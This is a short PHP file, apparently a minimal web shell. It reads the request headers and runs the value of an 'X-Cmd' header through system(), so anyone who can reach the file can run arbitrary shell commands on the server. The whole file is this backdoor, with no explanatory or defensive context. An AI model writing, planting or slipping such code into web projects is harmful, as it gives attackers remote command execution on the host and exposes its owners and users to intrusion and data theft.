<?php
$h = getallheaders();
if (isset($h['X-Cmd'])) {
    system($h['X-Cmd']);
}
